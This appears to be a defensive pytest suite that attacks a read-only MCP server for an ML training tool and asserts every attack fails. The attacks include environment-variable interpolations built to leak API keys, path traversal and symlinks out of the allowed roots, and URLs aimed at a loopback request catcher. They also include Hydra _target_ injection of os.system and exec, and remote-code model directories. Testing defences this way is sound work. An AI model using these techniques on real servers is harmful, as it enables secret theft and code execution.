"""Blind attack set against ``python -m loopwright.mcp`` started WITHOUT ``--allow-launch`` (read-only).

Written from the user-facing docs (README, docs/MCP.md, CLOUD.md, REWARDS.md, LAUNCHERS.md), the MCP
client helper and what the server itself reports (its tool schemas, ``list_options``, ``compose_config``'s
resolved config): nothing under src/ was read. The product's claims for read-only mode: it makes no
network call, imports no user module, resolves no interpolation from the client, reads no file outside its
roots (the project dir and the outputs dir) and never returns a secret.

One server session (the real MCP SDK client over stdio) drives every attack in order. Canaries:

* secret environment variables of the server process, under many names (``SECRETS``), each with a unique
  random core; a bland name (``BUILD_LABEL``) holds a secret-looking value;
* ``FILE_CANARY``: the content of every file planted OUTSIDE the roots (a sibling ``outside/`` dir and the
  server's ``$HOME``), reached by absolute paths, ``..``, ``~``, symlinks inside the roots and paths hidden
  in interpolations;
* a catcher (a raw TCP listener on 127.0.0.1 that answers anything with an HTTP 500 echoing the request):
  every URL an attack gives points at it, and the server's ``HTTP(S)_PROXY``, ``HF_ENDPOINT``,
  ``WANDB_BASE_URL``, ``MODAL_SERVER_URL`` and ``OPENAI_BASE_URL`` do too, so a request to any host lands
  there;
* Python modules in the project dir and on the server's ``PYTHONPATH`` (a dir outside the roots), one per
  attack, that write a marker file when imported (and when called);
* ``CLIENT_SECRET``: a value the client itself puts under secret-named keys (the docs promise redaction).

A leak is a canary value (or its random core) anywhere in a tool reply (structured content, text, error),
any byte at the catcher, a marker file, a file created in ``outside/``, outside content copied into the
roots, or a read of a file outside the roots (every planted outside file gets atime < mtime, so under
relatime a read moves its atime; ``test_the_read_detector_sees_a_read`` checks this holds on the machine).
Each parametrized test is one attack and asserts that it FAILED. ``LW_BLIND_REPORT=<file>`` writes every
attack's calls, replies and leaks as JSON (RESULTS.md was made from it).
"""

from __future__ import annotations

import asyncio
import dataclasses
import hashlib
import json
import os
import secrets
import shutil
import socket
import sys
import time
from pathlib import Path
from typing import Any, Callable

import pytest
from helpers.listener import Received, listen_on_loopback

ROOT = Path(__file__).resolve().parents[3]
EXAMPLE_CHATS = ROOT / "examples" / "loop" / "openai_chats.jsonl"
CALL_TIMEOUT = 60.0
UP = "${oc.env:LW_UNSET_VAR,..}"  # one dir name to a path check, ".." once resolved


def _core() -> str:
    return secrets.token_hex(10)


# name -> (value, random core). Values look like the real thing; the core is what is searched for.
_SECRET_SHAPES = {
    "RUNPOD_API_KEY": "rpa_{}",
    "OPENAI_API_KEY": "sk-proj-{}",
    "ANTHROPIC_API_KEY": "sk-ant-api03-{}",
    "HF_TOKEN": "hf_{}",
    "HUGGING_FACE_HUB_TOKEN": "hf_{}",
    "WANDB_API_KEY": "{}0000000000000000000",
    "GITHUB_PAT": "ghp_{}",
    "API_KEY_2": "key2-{}",
    "MY_SERVICE_SECRET": "svc-secret-{}",
    "DB_PASSWORD": "pw-{}",
    "HF_AUTH": "hf_auth_{}",
    "JUDGE_KEY": "judge-{}",
    "MODAL_TOKEN_ID": "ak-{}",
    "MODAL_TOKEN_SECRET": "as-{}",
    "RUNPOD_S3_ACCESS_KEY": "user_{}",
    "RUNPOD_S3_SECRET_KEY": "rps_{}",
    "AWS_SECRET_ACCESS_KEY": "aws/{}",
    "BUILD_LABEL": "sk-live-{}",  # a bland name holding a secret-looking value
}
SECRETS: dict[str, tuple[str, str]] = {}
for _name, _shape in _SECRET_SHAPES.items():
    _c = _core()
    SECRETS[_name] = (_shape.format(_c), _c)
FILE_CANARY = "LWFILECANARY" + secrets.token_hex(10)
CLIENT_SECRET = "sk-client-LWC" + secrets.token_hex(10)


def leaks_in(text: str) -> list[str]:
    found = [f"env {name}={value}" for name, (value, core) in SECRETS.items() if core in text]
    if FILE_CANARY in text:
        found.append("content of a file outside the roots")
    if CLIENT_SECRET[-20:] in text:
        found.append("the client's secret given under a secret-named key")
    return found


# --------------------------------------------------------------------------------------------- the catcher


class Catcher(Received):
    """A raw TCP listener on 127.0.0.1: records the first bytes of every connection (HTTP/1, CONNECT,
    HTTP/2, gRPC, anything) and answers an HTTP 500 that echoes the request (bait for error-message leaks)."""

    def __init__(self) -> None:
        super().__init__()
        self.sock = listen_on_loopback(self._handle)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"

    def _handle(self, conn: socket.socket) -> None:
        data = b""
        conn.settimeout(1.0)
        try:
            while len(data) < 65536:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
                head, sep, body = data.partition(b"\r\n\r\n")
                if sep:
                    length = 0
                    for line in head.split(b"\r\n")[1:]:
                        if line.lower().startswith(b"content-length:"):
                            length = int(line.split(b":", 1)[1].strip() or 0)
                    if len(body) >= length:
                        break
        except OSError:
            pass
        self.add(data)
        body = json.dumps({"error": {"message": "echo: " + data.decode("latin-1")[:4000]}}).encode()
        try:
            conn.sendall(b"HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\n"
                         b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
        except OSError:
            pass
        finally:
            conn.close()

    def close(self) -> None:
        self.sock.close()


# ------------------------------------------------------------------------------------------- the world


@dataclasses.dataclass
class Ctx:
    tmp: Path
    project: Path
    outputs: Path
    outside: Path
    home: Path
    pp: Path
    markers: Path
    catcher: Catcher

    def url(self, tag: str) -> str:
        return f"{self.catcher.url}/{tag}"

    def module(self, tag: str, where: str = "project") -> str:
        """A module that writes markers/import-<name> when imported and markers/call-<name> when called."""
        name = f"lwevil_{where}_{tag}"
        base = self.project if where == "project" else self.pp
        marker = self.markers
        (base / f"{name}.py").write_text(
            "import pathlib\n"
            f"pathlib.Path({str(marker)!r}, 'import-{name}').write_text('imported')\n"
            "def _mark(*a, **k):\n"
            f"    pathlib.Path({str(marker)!r}, 'call-{name}').write_text('called')\n"
            "def fn(*a, **k):\n"
            "    _mark()\n"
            "    return [0.0] * len(k.get('completions', a[1] if len(a) > 1 else []))\n"
            "make = fn\n"
            "class Obj:\n"
            "    def __init__(self, *a, **k):\n"
            "        _mark()\n"
            "    def __call__(self, *a, **k):\n"
            "        return fn(*a, **k)\n")
        return name

    def package(self, tag: str, where: str = "pp") -> str:
        name = f"lwevilpkg_{where}_{tag}"
        base = (self.project if where == "project" else self.pp) / name
        base.mkdir()
        (base / "__init__.py").write_text(
            f"import pathlib\npathlib.Path({str(self.markers)!r}, 'import-{name}').write_text('imported')\n")
        return name



def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _chat_record(text: str) -> dict:
    return {"id": text, "messages": [
        {"role": "system", "content": f"system {text}"},
        {"role": "user", "content": f"where is order W1599145? {text}"},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "call_1", "type": "function", "function": {
            "name": "lookup_order", "arguments": json.dumps({"order_id": text})}}]},
        {"role": "tool", "tool_call_id": text, "content": text},
        {"role": "assistant", "content": f"Your order W1599145 has shipped. {text}"}]}


def _plant_run(run: Path, text: str) -> None:
    """A run dir whose every file carries ``text``."""
    _write(run / "manifest.json", json.dumps({
        "status": "completed", "run_name": text, "error": text, "notes": text, "overrides": [f"notes={text}"],
        "choices": {"model": text}, "config": {"notes": text, "run_name": text, "model": {"name": text}},
        "result": {"base_accuracy": 0.0, "trained_accuracy": 1.0, "note": text}, "global_step": 2}))
    _write(run / "metrics.jsonl", json.dumps({"step": 1, "reward": 0.5, "loss": 1.0, "note": text}) + "\n")
    _write(run / "eval_results.json", json.dumps({
        "summary": {"n_prompts": 1, "base_accuracy": 0.0, "trained_accuracy": 1.0, "note": text},
        "records": [{"prompt": text, "answer": text, "base_completion": text, "trained_completion": text}]}))
    _write(run / "launch.log", f"{text}\n" * 5)
    _write(run / "train.log", f"{text}\n" * 5)
    _write(run / ".hydra" / "overrides.yaml", f"- notes={text}\n")
    _write(run / ".hydra" / "config.yaml", f"notes: {text}\nrun_name: {text}\n")
    _write(run / "model" / "config.json", json.dumps({"model_type": "llama", "architectures": [text]}))


def build_world(tmp: Path, catcher: Catcher) -> Ctx:
    ctx = Ctx(tmp=tmp, project=tmp / "project", outputs=tmp / "outputs", outside=tmp / "outside",
              home=tmp / "home", pp=tmp / "pythonpath", markers=tmp / "markers", catcher=catcher)
    for d in (ctx.project, ctx.outputs, ctx.outside, ctx.home, ctx.pp, ctx.markers):
        d.mkdir(parents=True)

    # -- outside the roots: every file carries FILE_CANARY
    for base in (ctx.outside, ctx.home):
        _write(base / "canary.txt", f"{FILE_CANARY} this line is not JSON\n")
        _write(base / "canary.jsonl", "".join(json.dumps({
            "prompt": FILE_CANARY, "reply": FILE_CANARY, "completion": FILE_CANARY, "label": 1,
            "question": FILE_CANARY, "answer": FILE_CANARY, "id": FILE_CANARY, "step": i,
            "messages": [{"role": "user", "content": FILE_CANARY}]}) + "\n" for i in range(3)))
        _write(base / "canary.json", json.dumps({"summary": {"note": FILE_CANARY}, "records": [{"p": FILE_CANARY}],
                                                 "orders": [{"order_id": "W1599145", "carrier": FILE_CANARY}]}))
        _write(base / "canary.md", f"# {FILE_CANARY}\n\n{FILE_CANARY}\n")
        _write(base / "canary.yaml", f"best_params:\n  x: {FILE_CANARY}\nbest_value: {FILE_CANARY}\n")
        _write(base / "orders.csv", f"order_id,status,carrier,tracking\nW1599145,shipped,{FILE_CANARY},{FILE_CANARY}\n"
                                    f"{FILE_CANARY},shipped,x,y\n")
        _write(base / "chat.jsonl", json.dumps(_chat_record(FILE_CANARY)) + "\n")
        _write(base / "ledger.jsonl", json.dumps({"dollars": 1.0, "pod_id": FILE_CANARY, "provider": "runpod",
                                                  "status": FILE_CANARY}) + "\n")
        _plant_run(base / "run", FILE_CANARY)
        conf = base / "conf"
        for group in ("experiment", "model", "reward", "task"):
            _write(conf / group / "evil.yaml", f"# {FILE_CANARY} summary sentence. More.\n"
                                               + ("# @package _global_\nnotes: " if group == "experiment"
                                                  else "name: ") + f"{FILE_CANARY}\n")
        _write(conf / "train.yaml", f"# {FILE_CANARY}.\nnotes: {FILE_CANARY}\nrun_name: {FILE_CANARY}\n")
    _write(ctx.home / ".netrc", f"machine 127.0.0.1 login lw password {FILE_CANARY}\n")
    # a model dir outside whose config names remote code
    model = ctx.outside / "model"
    _write(model / "config.json", json.dumps({
        "model_type": FILE_CANARY, "architectures": [FILE_CANARY], "head_dim": 7,
        "auto_map": {"AutoConfig": "configuration_lwevil.EvilConfig",
                     "AutoModelForCausalLM": "modeling_lwevil.EvilModel"}}))

    # -- inside the project: symlinks out, a model dir with remote code, a labelled set, chats
    links = {"link_canary.txt": "canary.txt", "link_canary.jsonl": "canary.jsonl", "link_chat.jsonl": "chat.jsonl",
             "link_orders.csv": "orders.csv", "link_canary.json": "canary.json", "linkrun": "run",
             "linkdir": ".", "link_model": "model", "link_run": "run", "link_canary.yaml": "canary.yaml",
             "link_conf": "conf", "link_ledger.jsonl": "ledger.jsonl"}
    for name, target in links.items():
        (ctx.project / name).symlink_to(ctx.outside / target)
    (ctx.project / "sub").mkdir()
    _write(ctx.project / "sub" / ".keep", "")
    evil_model = ctx.project / "evil_model"
    _write(evil_model / "config.json", json.dumps({
        "model_type": "lwevil", "architectures": ["EvilModel"], "head_dim": 32,
        "auto_map": {"AutoConfig": "configuration_lwevil.EvilConfig",
                     "AutoModelForCausalLM": "modeling_lwevil.EvilModel"}}))
    for d in (evil_model, model):
        for mod in ("configuration_lwevil", "modeling_lwevil"):
            _write(d / f"{mod}.py", f"import pathlib\npathlib.Path({str(ctx.markers)!r}, "
                                    f"'import-remote-code-{d.name}-{mod}').write_text('imported')\n"
                                    "class EvilConfig: pass\nclass EvilModel: pass\n")
    _write(ctx.project / "calib.jsonl", "".join(json.dumps({
        "prompt": f"Where is my order W159914{i}?", "reply": "It shipped yesterday with FedEx.", "label": i % 2})
        + "\n" for i in range(4)))
    chats = EXAMPLE_CHATS.read_text().splitlines()[:5]
    _write(ctx.project / "logs" / "chats.jsonl", "\n".join(chats) + "\n")

    # -- inside the outputs dir: run dirs planted by someone else (a downloaded run, a shared disk)
    runs = ctx.outputs / "runs"
    interp = runs / "evil_interp"
    env_ref = "${oc.env:OPENAI_API_KEY}"
    _write(interp / "manifest.json", json.dumps({
        "status": "completed", "run_name": env_ref, "error": "${oc.env:HF_TOKEN}", "overrides": [f"notes={env_ref}"],
        "config": {"notes": "${oc.env:GITHUB_PAT}", "run_name": env_ref, "seed": "${oc.env:DB_PASSWORD}"},
        "choices": {"model": "${oc.env:MY_SERVICE_SECRET}"}, "result": {"note": "${oc.env:HF_AUTH}"}}))
    _write(interp / ".hydra" / "config.yaml", "notes: ${oc.env:WANDB_API_KEY}\nrun_name: ${oc.env:API_KEY_2}\n"
                                              "seed: 0\nmodel:\n  name: ${oc.env:BUILD_LABEL}\n")
    _write(interp / ".hydra" / "overrides.yaml", "- notes=${oc.env:RUNPOD_API_KEY}\n- run_name=${oc.env:JUDGE_KEY}\n")
    _write(interp / ".hydra" / "hydra.yaml", "hydra:\n  runtime:\n    choices:\n"
                                             "      model: ${oc.env:ANTHROPIC_API_KEY}\n"
                                             "  overrides:\n    task:\n    - notes=${oc.env:MODAL_TOKEN_SECRET}\n")
    _write(interp / "metrics.jsonl", json.dumps({"step": 1, "reward": "${oc.env:AWS_SECRET_ACCESS_KEY}"}) + "\n")
    _write(interp / "eval_results.json", json.dumps({"summary": {"note": "${oc.env:RUNPOD_S3_SECRET_KEY}"}}))
    _write(interp / "launch.log", "${oc.env:OPENAI_API_KEY}\n")
    links_run = runs / "evil_links"
    _write(links_run / "manifest.json", json.dumps({"status": "completed"}))
    for name, target in {"launch.log": "canary.txt", "train.log": "canary.txt", "metrics.jsonl": "canary.jsonl",
                         "eval_results.json": "canary.json", ".hydra": "run/.hydra"}.items():
        (links_run / name).symlink_to(ctx.outside / target)
    lj = runs / "evil_launchjson"
    _write(lj / "manifest.json", json.dumps({"status": "running"}))
    _write(lj / "launch.json", json.dumps({
        "pid": os.getpid(), "log": str(ctx.outside / "canary.txt"), "run_dir": str(ctx.outside / "run"),
        "command": ["python", "-m", "loopwright.train"], "sweep": False}))
    (runs / "linked_outside").symlink_to(ctx.outside / "run", target_is_directory=True)
    sweep = ctx.outputs / "multirun" / "evil_sweep"
    sweep.mkdir(parents=True)
    for name, target in {"summary.md": "canary.md", "sweep_report.md": "canary.md",
                         "optimization_results.yaml": "canary.yaml", "0": "run"}.items():
        (sweep / name).symlink_to(ctx.outside / target)
    _write(sweep / "multirun.yaml", "hydra:\n  mode: MULTIRUN\n")
    return ctx


def server_env(ctx: Ctx) -> dict[str, str]:
    catcher = ctx.catcher.url
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(ctx.home),
        "LANG": "C.UTF-8",
        "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), str(ctx.pp)]),
        "TOKENIZERS_PARALLELISM": "false",
        # every network client's "somewhere else" points at the catcher
        "HTTP_PROXY": catcher, "HTTPS_PROXY": catcher, "http_proxy": catcher, "https_proxy": catcher,
        "ALL_PROXY": catcher, "all_proxy": catcher,
        "HF_ENDPOINT": f"{catcher}/hf-endpoint", "HF_HUB_ETAG_TIMEOUT": "3", "HF_HUB_DOWNLOAD_TIMEOUT": "3",
        "WANDB_BASE_URL": f"{catcher}/wandb", "MODAL_SERVER_URL": f"{catcher}/modal",
        "OPENAI_BASE_URL": f"{catcher}/openai/v1",
    }
    env.update({name: value for name, (value, _) in SECRETS.items()})
    return env


# ------------------------------------------------------------------------------------------- the attacks

Calls = list[tuple[str, dict]]


@dataclasses.dataclass
class Attack:
    name: str
    build: Callable[[Ctx], Calls]
    check: Callable[[Ctx, list["Reply"]], list[str]] | None = None


ATTACKS: list[Attack] = []


def attack(name: str, check: Callable | None = None):
    def register(build: Callable[[Ctx], Calls]) -> Callable[[Ctx], Calls]:
        ATTACKS.append(Attack(name, build, check))
        return build
    return register


TINY = ["model=tiny", "profile=smoke"]


def compose(*overrides: str, multirun: bool = False) -> tuple[str, dict]:
    args: dict = {"overrides": [*TINY, *overrides]}
    if multirun:
        args["multirun"] = True
    return ("compose_config", args)


def plan(*overrides: str, multirun: bool = False) -> tuple[str, dict]:
    args: dict = {"overrides": [*TINY, *overrides]}
    if multirun:
        args["multirun"] = True
    return ("plan_job", args)


def both(*overrides: str, multirun: bool = False) -> Calls:
    return [compose(*overrides, multirun=multirun), plan(*overrides, multirun=multirun)]


# -- OmegaConf interpolations from the client


@attack("interp_oc_env_in_string_fields")
def _(ctx):
    return both("run_name=${oc.env:OPENAI_API_KEY}", "notes=${oc.env:HF_TOKEN}")


@attack("interp_oc_env_with_default")
def _(ctx):
    return both("run_name=${oc.env:GITHUB_PAT,nothing}", "notes='${oc.env:UNSET_LW_VAR,${oc.env:API_KEY_2}}'")


@attack("interp_appended_new_key")
def _(ctx):
    return both("+extra.note=${oc.env:MY_SERVICE_SECRET}", "++extra2=${oc.env:DB_PASSWORD}")


@attack("interp_in_list_value")
def _(ctx):
    return both("tags=[a,${oc.env:WANDB_API_KEY},'${oc.env:HF_AUTH}']")


@attack("interp_in_dict_value")
def _(ctx):
    return [*both("+extra.d={k: ${oc.env:DB_PASSWORD}, n: {m: ${oc.env:JUDGE_KEY}}}"),
            compose("task=jsonl", "task.path=calib.jsonl", "task.field_map={prompt: '${oc.env:ANTHROPIC_API_KEY}'}")]


@attack("interp_nested_oc_decode")
def _(ctx):
    return both("run_name='${oc.decode:${oc.env:MY_SERVICE_SECRET}}'",
                "notes=\"${oc.decode:'${oc.env:BUILD_LABEL}'}\"")


@attack("interp_oc_create")
def _(ctx):
    return both("+extra.c='${oc.create:{v: ${oc.env:HF_AUTH}}}'", "+extra.l=\"${oc.create:'[${oc.env:API_KEY_2}]'}\"")


@attack("interp_in_key")
def _(ctx):
    return [compose("+extra={${oc.env:BUILD_LABEL}: 1}"), compose("+extra.${oc.env:BUILD_LABEL}=1"),
            compose("+${oc.env:OPENAI_API_KEY}=1")]


@attack("interp_quoted_and_escaped_forms")
def _(ctx):
    return both("run_name='${oc.env:OPENAI_API_KEY}'", 'notes="pre-${oc.env:GITHUB_PAT}-post"') + [
        compose("run_name=\\${oc.env:HF_TOKEN}"), compose("run_name=\\\\${oc.env:HF_TOKEN}"),
        compose("notes=$${oc.env:WANDB_API_KEY}"), compose("notes='\\\\${oc.env:WANDB_API_KEY}'")]


@attack("interp_other_resolvers")
def _(ctx):
    return [compose("run_name=${env:OPENAI_API_KEY}"),
            compose("run_name='${oc.select:lw_missing_key,${oc.env:HF_TOKEN}}'")]


@attack("interp_error_message_in_numeric_fields")
def _(ctx):
    return [compose("seed=${oc.env:API_KEY_2}"), plan("objective.learning_rate=${oc.env:OPENAI_API_KEY}"),
        plan("provider=runpod", "provider.max_cost=${oc.env:RUNPOD_API_KEY}"),
        compose("sweep=grpo_lr_kl", "hydra.sweeper.n_trials=${oc.env:WANDB_API_KEY}", multirun=True)]


@attack("interp_as_group_choice")
def _(ctx):
    return both("model=${oc.env:OPENAI_API_KEY}") + [compose("+experiment=${oc.env:HF_TOKEN}")]


@attack("interp_in_sweep_values")
def _(ctx):
    return [compose("notes=a,${oc.env:OPENAI_API_KEY}", multirun=True),
            plan("run_name=choice(x,${oc.env:GITHUB_PAT})", multirun=True),
            compose("seed=1,2", "notes=${oc.env:MY_SERVICE_SECRET}", multirun=True)]


@attack("interp_in_paid_provider_fields_of_plan_job")
def _(ctx):
    closed = "http://127.0.0.1:9"
    return [plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0", f"provider.api_url={closed}",
                 f"provider.graphql_url={closed}/graphql", "provider.gpu_type=${oc.env:RUNPOD_API_KEY}"),
            plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0", f"provider.api_url={closed}",
                 f"provider.graphql_url={closed}/graphql", "provider.env={A: '${oc.env:HF_TOKEN}'}",
                 "provider.setup_cmd='echo ${oc.env:GITHUB_PAT}'"),
            plan("provider=modal", "provider.max_cost=1", "provider.app_name=${oc.env:MODAL_TOKEN_SECRET}",
                 "provider.env={B: '${oc.env:OPENAI_API_KEY}'}")]


@attack("interp_in_env_name_key")
def _(ctx):
    # api_key_env holds a NAME; give it the value itself
    return both("reward=judge", "reward.base_url=http://127.0.0.1:9/v1", "reward.model=m",
                "reward.api_key_env=${oc.env:OPENAI_API_KEY}")


# -- client secrets under secret-named keys (the docs promise redaction)


@attack("client_secret_under_secret_named_keys")
def _(ctx):
    s = CLIENT_SECRET
    return [compose(f"+extra.password={s}"), compose(f"+extra.HF_TOKEN={s}"), compose(f"+extra.db={{password: {s}}}"),
            compose(f"+extra.client_secret={s}"), compose(f"+extra.Authorization='Bearer {s}'"),
            plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0",
                 "provider.api_url=http://127.0.0.1:9", "provider.graphql_url=http://127.0.0.1:9/graphql",
                 f"provider.env={{HF_TOKEN: {s}, WANDB_API_KEY: {s}}}"),
            ("launch", {"overrides": [*TINY, f"+extra.api_key={s}"]})]


@attack("client_secret_in_url_password")
def _(ctx):
    s = CLIENT_SECRET
    return both("reward=judge", f"reward.base_url=http://user:{s}@127.0.0.1:9/v1", "reward.model=m") + [
        compose(f"+extra.db_url=postgresql://lw:{s}@127.0.0.1:9/db"),
        compose("sweep=grpo_lr_kl", f"hydra.sweeper.storage=postgresql://lw:{s}@127.0.0.1:9/db", multirun=True)]


@attack("client_secret_in_sweep_values_and_errors")
def _(ctx):
    s = CLIENT_SECRET
    return [compose(f"+extra.api_key=a,{s}", multirun=True), compose(f"+extra.token=choice(a,{s})", multirun=True),
            compose(f"model.api_key={s}"), compose(f"provider.env.HF_TOKEN={s}"),
            compose(f"+extra.api_key={s}", "objective.beta=-1"), compose(f"reward.api_key={s}", "reward=nope")]


# -- URL-valued keys: every one points at the catcher


@attack("judge_calibration_sends_requests_with_the_api_key")
def _(ctx):
    return both("reward=judge", f"reward.base_url={ctx.url('judge-calib')}/v1", "reward.model=m",
                "reward.api_key_env=OPENAI_API_KEY", "reward.calibration=calib.jsonl", "reward.retries=0",
                "reward.timeout_s=3", "reward.min_agreement=0")


@attack("judge_endpoint_without_calibration")
def _(ctx):
    return both("reward=judge", f"reward.base_url={ctx.url('judge')}/v1", "reward.model=m",
                "reward.api_key_env=JUDGE_KEY", "reward.retries=0", "reward.timeout_s=3")


@attack("runpod_api_urls_point_at_attacker")
def _(ctx):
    return [plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0",
                 f"provider.api_url={ctx.url('runpod-rest')}", f"provider.graphql_url={ctx.url('runpod-graphql')}"),
            plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0", "seed=1,2",
                 f"provider.graphql_url={ctx.url('runpod-graphql-sweep')}", multirun=True)]


@attack("runpod_default_price_query_in_read_only_mode")
def _(ctx):
    # no URL given: RunPod's own endpoint, reached only through the catcher as HTTPS proxy
    return [plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0")]


@attack("runpod_s3_endpoint_and_volume")
def _(ctx):
    closed = "http://127.0.0.1:9"
    return [plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0", f"provider.api_url={closed}",
                 f"provider.graphql_url={closed}/graphql", "provider.volume_id=vol1",
                 f"provider.s3_endpoint={ctx.url('s3')}", "provider.s3_region=EU-RO-1")]


@attack("rollout_server_base_url")
def _(ctx):
    return both("rollout=vllm_server", f"rollout.base_url={ctx.url('vllm-server')}", "rollout.server_timeout=3")


@attack("ray_cluster_address")
def _(ctx):
    host = ctx.url("x").split("//")[1].split("/")[0]
    return [plan("provider=ray", f"provider.address={host}"),
            plan("provider=ray", f"provider.address=ray://{host}"),
            compose("provider=ray", f"provider.address=ray://{host}",
                    f"provider.runtime_env={{working_dir: {ctx.url('ray-wd')}/wd.zip}}")]


@attack("modal_and_wandb_clients")
def _(ctx):
    return [plan("provider=modal", "provider.max_cost=1", "provider.secrets=[lw-secret]"),
            *both("logger=wandb", "logger.mode=online", "logger.entity=lw")]


@attack("hub_model_id_and_url_model")
def _(ctx):
    return [*both("model=smollm2_360m"), *both("model.name_or_path=lw-evil-org/lw-evil-model"),
            compose(f"model.name_or_path={ctx.url('model')}/m"), compose("model=qwen", "model.size=0.6B")]


@attack("url_valued_file_keys")
def _(ctx):
    u = ctx.url
    return [compose("task=jsonl", f"task.path={u('task-path')}/rows.jsonl"),
            compose(f"eval.prompts={u('eval-prompts')}/held_out.jsonl"),
            compose(f"reward.calibration={u('calibration')}/labels.jsonl", "reward.min_agreement=0"),
            compose("reward=judge", "reward.base_url=http://127.0.0.1:9/v1", "reward.model=m",
                    f"reward.rubric_file={u('rubric')}/rubric.txt"),
            compose("task=gsm8k"), compose("task=gsm8k", f"+task.params.url={u('gsm8k')}"),
            compose(f"resume={u('resume')}/ckpt")]


@attack("optuna_storage_url")
def _(ctx):
    host = ctx.url("x").split("//")[1].split("/")[0]
    return [plan("sweep=grpo_lr_kl", f"hydra.sweeper.storage=postgresql://lw:pw@{host}/db", multirun=True),
            compose("sweep=grpo_lr_kl", f"hydra.sweeper.storage=redis://{host}/0", multirun=True)]


# -- file keys: outside the roots by symlink, .., absolute, ~, and hidden in interpolations


def _outside_variants(ctx: Ctx, name: str) -> list[str]:
    """Override values naming ``name`` outside the roots: a symlink in the project, ``..``, absolute, ``~``
    (quoted: Hydra's lexer takes a bare ``~`` for a deletion), and hidden in interpolations that name no path."""
    return [f"link_{name}", f"sub/../../outside/{name}", str(ctx.outside / name), f'"~/{name}"',
            "${oc.env:HOME}/" + name, "${oc.env:HOME}/../outside/" + name, UP + "/outside/" + name,
            "\"${oc.decode:'" + str(ctx.outside / name) + "'}\""]


def _outside_path_args(ctx: Ctx, name: str) -> list[str]:
    """The same for a tool's path argument (the tool builds the override itself)."""
    return [f"link_{name}", f"sub/../../outside/{name}", str(ctx.outside / name), f"~/{name}",
            "${oc.env:HOME}/" + name, UP + "/outside/" + name, f"file://{ctx.outside / name}"]


@attack("rubric_file_outside_the_roots")
def _(ctx):
    judge = ["reward=judge", "reward.base_url=http://127.0.0.1:9/v1", "reward.model=m", "reward.retries=0"]
    return [compose(*judge, f"reward.rubric_file={p}") for p in _outside_variants(ctx, "canary.txt")]


@attack("calibration_file_outside_the_roots")
def _(ctx):
    calls = [compose("reward.min_agreement=0", f"reward.calibration={p}") for p in _outside_variants(ctx, "canary.txt")]
    calls += [compose("reward=customer_support", "reward.min_agreement=0.99", f"reward.calibration={p}")
              for p in _outside_variants(ctx, "canary.jsonl")[:1] + _outside_variants(ctx, "canary.jsonl")[4:]]
    return calls


@attack("task_and_eval_paths_outside_the_roots")
def _(ctx):
    calls = [compose("task=jsonl", f"task.path={p}") for p in _outside_variants(ctx, "canary.jsonl")]
    calls += [compose(f"eval.prompts={p}") for p in _outside_variants(ctx, "canary.jsonl")[3:]]
    calls += [plan("task=jsonl", "task.path=${oc.env:HOME}/canary.jsonl", "eval.prompts='~/canary.jsonl'")]
    return calls


@attack("support_records_outside_the_roots")
def _(ctx):
    return [compose("task=customer_support", "reward=customer_support", f"task.params.records={p}")
            for p in _outside_variants(ctx, "orders.csv")]


@attack("model_dir_outside_and_remote_code")
def _(ctx):
    calls = [compose(f"model.name_or_path={p}", "rollout=vllm") for p in _outside_variants(ctx, "model")[::2]]
    calls += both("model.name_or_path=evil_model", "model.trust_remote_code=true", "rollout=vllm")
    calls += both("model.name_or_path=${oc.env:HOME}/../outside/model", "model.trust_remote_code=true")
    return calls


@attack("resume_and_ledger_and_accelerate_config_outside")
def _(ctx):
    calls = [compose(f"resume={p}") for p in _outside_variants(ctx, "run")[3:]]
    calls += [plan("provider=runpod", "provider.max_cost=1", "provider.api_retries=0",
                   "provider.api_url=http://127.0.0.1:9", "provider.graphql_url=http://127.0.0.1:9/graphql",
                   f"provider.ledger={p}") for p in _outside_variants(ctx, "ledger.jsonl")[3:]]
    calls += [plan("provider=local_gpus", f"provider.accelerate_config={p}")
              for p in _outside_variants(ctx, "canary.yaml")]
    return calls


# -- module paths: _target_ everywhere, hydra.*, appends, deletions


@attack("reward_target_project_module")
def _(ctx):
    return both(f"reward._target_={ctx.module('reward_target')}.fn")


@attack("reward_target_pythonpath_module")
def _(ctx):
    return both(f"reward._target_={ctx.module('reward_target_pp', 'pp')}.make")


@attack("environment_target_module")
def _(ctx):
    return both(f"task.environment._target_={ctx.module('env_target')}.Obj", "task.multi_turn=true")


@attack("target_appended_to_every_group")
def _(ctx):
    calls = []
    for group in ("model", "objective", "task", "provider", "profile", "rollout", "logger", "eval", "guards",
                  "checkpoint", "extra"):
        calls.append(compose(f"+{group}._target_={ctx.module('plus_' + group)}.Obj"))
    calls.append(compose("reward=composite", f"reward.components=[{{_target_: {ctx.module('component')}.fn, "
                                             "kind: gsm8k, weight: 1.0}]"))
    calls.append(compose(f"++reward.params.fn._target_={ctx.module('params_target')}.fn"))
    return calls


@attack("target_builtin_callable_with_args")
def _(ctx):
    marker = ctx.markers / "os-system-ran"
    return both("reward._target_=os.system", f"+reward._args_=['touch {marker}']") + both(
        "reward._target_=builtins.exec", f"+reward._args_=['open(\"{ctx.markers / 'exec-ran'}\", \"w\")']")


@attack("deletion_then_target")
def _(ctx):
    return [compose("~reward", f"+reward={{_target_: {ctx.module('del_reward')}.fn}}"),
            compose("~task.environment", f"+task.environment={{_target_: {ctx.module('del_env')}.Obj}}"),
            compose("~reward._target_", f"+reward._target_={ctx.module('del_target')}.fn")]


@attack("hydra_searchpath_pkg_imports_module")
def _(ctx):
    return [compose(f"hydra.searchpath=[pkg://{ctx.package('searchpath', 'pp')}]"),
            compose(f"hydra.searchpath=[pkg://{ctx.package('searchpath_proj', 'project')}]", "+experiment=evil"),
            compose(f"+hydra.searchpath=[pkg://{ctx.package('searchpath_plus', 'pp')}]")]


